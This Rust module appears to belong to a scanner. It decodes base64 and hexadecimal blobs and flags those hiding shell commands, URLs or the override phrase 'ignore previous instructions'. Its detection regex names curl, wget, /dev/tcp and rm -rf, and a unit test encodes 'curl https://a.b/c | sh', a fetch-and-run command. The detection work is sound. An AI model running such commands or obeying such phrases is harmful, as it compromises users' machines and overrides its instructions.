use std::sync::LazyLock;

use regex::Regex;

use super::{commands::PassageFinding, transposed::transposed_commands};
use crate::inspect::Rule;

static BLOBS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"[A-Za-z0-9+/_-]{24,}={0,2}|(?:\\x[0-9a-fA-F]{2}){8,}|\b(?:[0-9a-fA-F]{2}){16,}\b").ok()
});

static HARMS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:curl|wget)\s|/bin/(?:ba|z)?sh|\b(?:ba)?sh\s+-[ci]\b|powershell|/dev/tcp/|\bimport\s+(?:os|subprocess|socket|requests)\b|\bsubprocess\.|\bos\.system|child_process|\bexec\s*\(|\beval\s*\(|ignore (?:all |any )?(?:previous|prior) |rm -rf |https?://[\w.-]+\.",
    )
    .ok()
});

/// The maximum size of a blob that is decoded, in bytes.
const MOST: usize = 64 << 10;

/// Returns text encoded to hide it from readers: commands, instructions and addresses.
pub(super) fn encoded(text: &str) -> Vec<PassageFinding> {
    let mut findings = opaque(text);
    findings.extend(blobs(text));
    findings
}

/// True if a text is a harmful command, instruction or address.
pub(super) fn harms(text: &str) -> bool {
    HARMS.as_ref().is_some_and(|harms| harms.is_match(text))
}

/// Returns encoded commands, instructions and addresses.
pub(super) fn blobs(text: &str) -> Vec<PassageFinding> {
    let Some(blobs) = BLOBS.as_ref() else {
        return Vec::new();
    };
    let mut findings = transposed_commands(text);
    for hit in blobs.find_iter(text) {
        let blob = hit.as_str();
        let blob = blob.get(..MOST).unwrap_or(blob);
        let inner = [base64(blob), hexadecimal(blob)];
        if inner.into_iter().flatten().any(|inner| harms(&inner)) {
            let reason = "a command or a URL is encoded, so that it cannot be read";
            findings.push((Rule::Encoded, hit.start(), reason.to_owned()));
        }
    }
    findings
}

static OPAQUE: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r#"["'][!-&(-~]{60,}["']|(?:\d{1,3}\s*,\s*){20,}"#).ok());

static DECODES: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?i)\b[ab](?:64|85|32|16)_?decode\b|\bmarshal\.loads\b|\bunhexlify\b|\bbytes\.fromhex\b|\bfromcharcode\b|\bchr\s*\(|\bbytes\s*\(\s*\(?\(").ok()
});

/// Finds a program in a text that decodes an unreadable literal.
fn opaque(text: &str) -> Vec<PassageFinding> {
    let decodes = DECODES.as_ref().and_then(|pattern| pattern.find(text));
    let blob = OPAQUE.as_ref().and_then(|regex| regex.find(text));
    let blob = blob.filter(|blob| !blob.as_str().contains("://"));
    let (Some(_), Some(blob)) = (decodes, blob) else {
        return Vec::new();
    };
    let reason = "a program decodes content that cannot be read";
    vec![(Rule::Encoded, blob.start(), reason.to_owned())]
}

/// Returns printable text: anything that decodes otherwise is not text.
fn printed(bytes: Vec<u8>) -> Option<String> {
    let text = String::from_utf8(bytes).ok()?;
    let is_odd = |c: char| c.is_control() && !c.is_whitespace();
    (!text.is_empty() && !text.chars().any(is_odd)).then_some(text)
}

fn base64(blob: &str) -> Option<String> {
    let value = |byte: u8| {
        Some(match byte {
            b'A'..=b'Z' => byte - b'A',
            b'a'..=b'z' => byte - b'a' + 26,
            b'0'..=b'9' => byte - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            _ => return None,
        })
    };
    let signs = blob.trim_end_matches('=').bytes();
    let values: Option<Vec<u8>> = signs.map(value).collect();
    let bytes = values?;
    let chunks = bytes.chunks(4).filter(|chunk| chunk.len() > 1);
    let bytes = chunks.flat_map(|chunk| {
        let bits = chunk.iter().fold(0_u32, |bits, value| bits << 6 | u32::from(*value));
        let bits = bits << (6 * (4 - chunk.len()));
        let [_, one, two, three] = bits.to_be_bytes();
        [one, two, three].into_iter().take(chunk.len() - 1)
    });
    printed(bytes.collect())
}

fn hexadecimal(blob: &str) -> Option<String> {
    let digits: Vec<u32> = blob.replace("\\x", "").chars().map(|c| c.to_digit(16)).collect::<Option<_>>()?;
    let bytes = digits.chunks_exact(2).map(|pair| {
        let value = pair.iter().fold(0, |value, digit| value * 16 + digit);
        u8::try_from(value).unwrap_or_default()
    });
    printed(bytes.collect())
}

#[cfg(test)]
mod tests {
    use super::{base64, encoded, hexadecimal};

    #[test]
    fn what_is_encoded_is_read() {
        assert_eq!(base64("aGVsbG8=").as_deref(), Some("hello"));
        assert_eq!(base64("aGVsbG8").as_deref(), Some("hello"));
        assert_eq!(base64("////").as_deref(), None);
        assert_eq!(hexadecimal("\\x68\\x69").as_deref(), Some("hi"));
        assert_eq!(encoded("Y3VybCBodHRwczovL2EuYi9jIHwgc2g=").len(), 1);
        assert_eq!(encoded("QWxsIGlzIHdlbGwgYW5kIGdvb2QgaGVyZQ==").len(), 0);
    }
}
